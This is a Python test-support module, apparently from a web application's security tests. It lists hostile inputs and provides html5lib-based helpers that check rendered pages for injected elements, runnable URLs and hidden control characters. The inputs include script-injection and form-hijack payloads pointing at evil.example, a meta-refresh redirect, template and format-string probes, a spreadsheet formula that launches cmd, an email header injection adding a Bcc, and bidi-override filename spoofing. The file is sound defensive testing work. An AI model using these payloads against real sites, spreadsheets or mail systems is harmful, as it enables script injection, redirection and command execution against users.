"""Texts that are more than text to whatever shows them, and what a page is made of, so that differences are seen."""

from __future__ import annotations

import re
from functools import lru_cache

import html5lib

TEXTS = {
    "a script": "<script>alert(1)</script>",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a title": "</title></head><body onload=alert(1)>",
    "the end of a form": "</textarea></form><form action=//evil.example><input name=evil>",
    "the end of an attribute": '"><img src=x onerror=alert(1)>',
    "another attribute": "' onmouseover='alert(1)' x=\"\" autofocus onfocus=\"alert(1)",
    "the end of CDATA": "]]><evil/><![CDATA[",
    "the end of a comment": "--><evil/><!--",
    "half a tag": "<img src=x onerror=alert(1)//",
    "an SVG": "<svg/onload=alert(1)><style>*{display:none}",
    "a refresh": '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "a script in an address": "javascript:alert(1)",
    "a page in an address": "data:text/html,<script>alert(1)</script>",
    "Markdown": "[x](javascript:alert(1)) ![x](//evil.example/i.png) <javascript:alert(1)> [a]: javascript:alert(1)",
    "a template": "{{ 7|add:7 }}{% load nothing %}{% debug %}${7*7}#{7*7}",
    "a format": "%(name)s %s %n {0} {name.__class__} %",
    "JSON": '", "@type": "Evil", "evil": {"a": "</script>',
    "a formula": '=HYPERLINK("https://evil.example","press")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a header": "Ada\r\nBcc: eve@evil.example\r\n\r\n<b>body</b>",
    "a header by other breaks": "Ada\x0bBcc: a@b\x0cX: y\x1cZ\x85NEL\u2028LS\u2029PS",
    "controls": "a\x08\x1b[31mred\x1b]0;title\x07\x7f",
    "a turned name": "Ada \u202egnp.exe\u2066 \u200fx",
    "nothing to be seen": "A\u200bd\u200d\u2060\ufeffa\u00ad",
    "no letters": "\ufffe\uffff\U0001ffff",
    "a zero": "A\0da",
    "half a letter": "A\ud800da\udfff",
    "a tower": "Z" + "\u0301" * 500,
    "a long word": "x" * 5000,
}
PLAIN = "Zed"
_RUN = re.compile(r"(?:javascript|data|vbscript):")
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "ping", "background"}
INVISIBLE = re.compile("[\0-\x08\x0b-\x1f\x7f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
"""Controls, halves of letters and what turns the text around it: no outlet lets these through."""
_TYPED = re.compile(r' value="[^"]*"|(?s:<textarea.*?</textarea>)')
"""What somebody is shown of his own words, to change them, is as he typed it."""
MARKDOWN = {"a", "p", "em", "strong", "code", "pre", "br", "ul", "ol", "li", "blockquote", "del", "hr"}
"""What a comment's text may be made of."""


def storable(text: str) -> str:
    """Return what a database takes."""
    return re.sub("[\0\ud800-\udfff]", "", text)


@lru_cache(maxsize=32)
def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    found = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False).iter()
    return [(one.tag, one.attrib) for one in found if isinstance(one.tag, str)]


def shape(html: str) -> set[tuple[str, str]]:
    """Return each kind of element with each name of its attributes."""
    return {(tag, str(name)) for tag, attributes in elements(html) for name in ("", *attributes)}


def metas(html: str) -> list[str]:
    """Return what is said in the head, each by its name."""
    return sorted(
        found.get("property") or found.get("name") or found.get("http-equiv") or ""
        for tag, found in elements(html)
        if tag == "meta"
    )


def runs(html: str) -> list[str]:
    """Return addresses that a browser would run."""
    return [
        value
        for _tag, attributes in elements(html)
        for name, value in attributes.items()
        if name in ADDRESSES and _RUN.match(re.sub(r"[\0-\x20]", "", value).lower())
    ]


def more_than(html: str, plain: str) -> list[object]:
    """Return what a page has that the same page with plain words has not, and what would run."""
    new = {(tag, name) for tag, name in shape(html) - shape(plain) if tag not in MARKDOWN or name.startswith("on")}
    return sorted(new) + runs(html) + INVISIBLE.findall(_TYPED.sub("", html))
